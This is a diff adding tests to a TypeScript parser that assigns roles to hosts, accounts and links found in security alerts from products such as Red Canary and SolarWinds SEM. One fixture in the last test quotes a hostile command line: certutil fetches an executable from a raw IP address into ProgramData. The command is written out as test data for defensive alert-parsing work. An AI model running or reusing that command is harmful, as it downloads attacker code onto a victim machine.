@@ -61,6 +61,29 @@ test('a machine that nothing but a field "host" names is no mere reporter', () =
   assert.match(found['ws-7-305'] ?? '', /host (actor|target)/)
 })
 
+test('the machine at an end of a connection takes part, also where it stands alone', () => {
+  const part = (field: string, type: string, more: object = {}) =>
+    roles({ ...more, [field]: 'srv-7-305' }, type)['srv-7-305']
+  const claims = ['Brute force detected', 'Exploit attempt', 'Kerberoasting', 'New service created', 'C2 beacon']
+  const device = { devicehostname: 'fw-1', sourceaddress: '185.112.34.77' }
+  for (const name of [
+    'destinationhostname',
+    'desthost',
+    'dest_hostname',
+    'desthostname',
+    'dsthostname',
+    'targethostname',
+  ])
+    for (const type of claims) {
+      assert.equal(part(name, type), 'host target', `${name}, ${type}`)
+      assert.equal(part(name, type, device), 'host target', `${name}, ${type}, beside a device`)
+    }
+  for (const name of ['sourcehostname', 'source_hostname', 'srchostname', 'src_hostname', 'sourcehost'])
+    for (const type of ['Brute force detected', 'Port scan', 'Exploit attempt'])
+      assert.equal(part(name, type), 'host actor', `${name}, ${type}`)
+  assert.equal(part('sourcehostname', 'Policy violation'), 'host actor')
+})
+
 test('labels in brackets, names behind addresses and accounts of databases are read', () => {
   assert.deepEqual(
     roles(
@@ -270,4 +293,60 @@ test('an attempt at an intrusion is what the signature says it is', () => {
 test('who approved it is a bystander, also where the address stands behind the name', () => {
   const text = 'This was checked and approved by Elif Demir (elif.demir@tess-robotics.io), no action needed on lt-7.'
   assert.equal(roles({ description: text }, 'Security request')['elif.demir@tess-robotics.io'], 'email bystander')
+})
+
+test('the time when a device was first seen weeks before is not that of the event', () => {
+  const { event_time } = read({
+    devices: [{ name: 'lt-7', firstSeen: '2026-09-01T08:00:00Z' }],
+    time: '2026-10-26T05:00:00Z',
+  })
+  assert.equal(event_time, Date.parse('2026-10-26T05:00:00Z') / 1000)
+})
+
+test('links into the console of a product are no observables, wherever its links stand', () => {
+  const found = roles(
+    { data: { hostname: 'lt-7', links: { html: { href: 'https://acme.my.redcanary.co/detections/7741' } } } },
+    'Suspicious process',
+    'red_canary',
+  )
+  assert.deepEqual(Object.keys(found), ['lt-7'])
+  const own = roles(
+    { host: 'lt-7', urls: { alert: 'https://guardian-gbg-01.acme.example/t/9' } },
+    'Alert',
+    'cayosoft_guardian',
+  )
+  assert.deepEqual(Object.keys(own), ['lt-7'])
+})
+
+test('the name of the organization and of a delivery is nobody', () => {
+  const { observables } = readAlert({
+    alert_provider: 'harmony_sase',
+    alert_type: 'Sign-in from a new country',
+    alert_content: JSON.stringify({ accountName: 'Acme Instruments', user: 'marcus.bell', delivered_by: 'webhook' }),
+    created_at_source: 1_793_000_000,
+    domains: ['acmeinstruments.com'],
+  })
+  assert.deepEqual(
+    observables.map(({ value }) => value),
+    ['marcus.bell'],
+  )
+})
+
+test('a product that runs in the organization writes to its own people, and names the site of the attacker', () => {
+  const { observables } = readAlert({
+    alert_provider: 'solarwinds_sem',
+    alert_type: 'Process launched by database service',
+    alert_content: [
+      'From: SolarWinds SEM <sem@acme.example>',
+      'To: it-alerts@acme.example',
+      'Subject: SEM Rule Fired: Process launched by database service',
+      '',
+      'Agent               : SRV-SQL-01',
+      'Command Line        : cmd.exe /c certutil.exe -urlcache -f http://91.212.166.139/s.exe C:\\ProgramData\\s.exe',
+    ].join('\n'),
+    created_at_source: 1_793_000_000,
+    domains: ['acme.example'],
+  })
+  const server = observables.find(({ value }) => value === 'SRV-SQL-01')
+  assert.deepEqual([server?.kind, server?.role, server?.quoted], ['host', 'target', false])
 })
